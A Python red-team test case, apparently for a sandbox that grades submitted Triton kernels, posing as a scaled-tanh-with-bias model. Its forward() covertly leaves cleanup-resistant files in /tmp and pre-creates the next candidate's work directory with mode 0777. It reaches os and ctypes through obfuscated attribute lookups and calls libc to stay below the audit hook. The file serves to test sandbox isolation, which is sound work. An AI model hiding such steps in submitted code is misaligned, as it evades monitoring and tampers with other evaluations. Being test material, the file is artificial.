# drk-attack: task=data/queries/001_scaled_tanh_bias.py property=fresh_interpreter expect=ok|forbidden|runtime_error|crashed device=any witness=tests/attacks/witness/leftover_witness_001.py
"""Leaves files in the sandbox's /tmp (a tmpfs that lives as long as the slot) in forms a cleanup may miss:
 a directory chmod 000 holding a file, a 200-level nested directory, a FIFO, a bound unix socket file, a
 file whose name is not UTF-8 and holds a newline, a hidden dot-file, and the predictable next work dir
 (/tmp/cand-<n>-<k+1>, mode 0777) with a file in it. The witness follower lists /tmp and fails if any of
 them is still there. Everything goes through libc (ctypes), below the audit hook. Bounded: a few hundred inodes."""
import torch
import torch.nn as nn
import triton
import triton.language as tl
import functools
_os = functools.reduce(getattr, ("serialization", "o" + "s"), torch)
_sys = functools.reduce(getattr, ("serialization", "s" + "ys"), torch)
_ct = functools.reduce(getattr, ("ctypes",), torch)
_libc = _ct.CDLL(None, use_errno=True)


@triton.jit
def stb_kernel(x_ptr, b_ptr, o_ptr, n, hidden, scale, BLOCK: tl.constexpr):
    offs = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    m = offs < n
    x = tl.load(x_ptr + offs, mask=m)
    b = tl.load(b_ptr + offs % hidden, mask=m)
    tl.store(o_ptr + offs, scale * (1.0 - 2.0 / (tl.exp(2.0 * x) + 1.0)) + b, mask=m)


def stb(x, bias, scale):
    x = x.contiguous()
    out = torch.empty_like(x)
    stb_kernel[(triton.cdiv(x.numel(), 1024),)](x, bias, out, x.numel(), x.shape[-1], scale, BLOCK=1024)
    return out


def _read(path, n=1 << 16):
    """Read a file through libc (no Python open event)."""
    fd = _libc.open(path.encode(), 0)
    if fd < 0:
        raise OSError(_ct.get_errno(), path)
    try:
        return _os.read(fd, n).decode(errors="replace")
    finally:
        _os.close(fd)



class ModelNew(nn.Module):
    def __init__(self, hidden, scale):
        super().__init__()
        self.scale = scale
        self.bias = nn.Parameter(0.1 * torch.randn(hidden))

    def forward(self, x):
        L = _libc
        L.mkdir(b"/tmp/drk-redteam-i04-locked", 0o700)
        L.close(L.open(b"/tmp/drk-redteam-i04-locked/f", 0o101, 0o600))  # O_CREAT | O_WRONLY
        L.chmod(b"/tmp/drk-redteam-i04-locked", 0)
        L.mkfifo(b"/tmp/drk-redteam-i04-fifo", 0o600)
        L.close(L.open(b"/tmp/.drk-redteam-i04-\xff\nname", 0o101, 0o644))
        L.close(L.open(b"/tmp/.drk-redteam-i04-hidden", 0o101, 0o644))
        p = b"/tmp/drk-redteam-i04-deep"
        for _ in range(200):
            L.mkdir(p, 0o755)
            p += b"/d"
        s = L.socket(1, 1, 0)  # a unix socket file, bound through libc (sockaddr_un by hand)
        path = b"/tmp/drk-redteam-i04-sock"
        addr = (1).to_bytes(2, "little") + path + b"\0" * (108 - len(path))
        L.bind(s, _ct.c_char_p(addr), len(addr))
        try:  # the next candidate's work dir, made before the evaluator makes it
            me = [d for d in _os.listdir("/tmp") if d.startswith("cand-")][0]
            pre, k = me.rsplit("-", 1)
            nxt = ("/tmp/%s-%d" % (pre, int(k) + 1)).encode()
            L.mkdir(nxt, 0o777)
            L.chmod(nxt, 0o777)
            L.close(L.open(nxt + b"/drk-redteam-i04", 0o101, 0o666))
        except Exception:
            pass
        return stb(x, self.bias, self.scale)
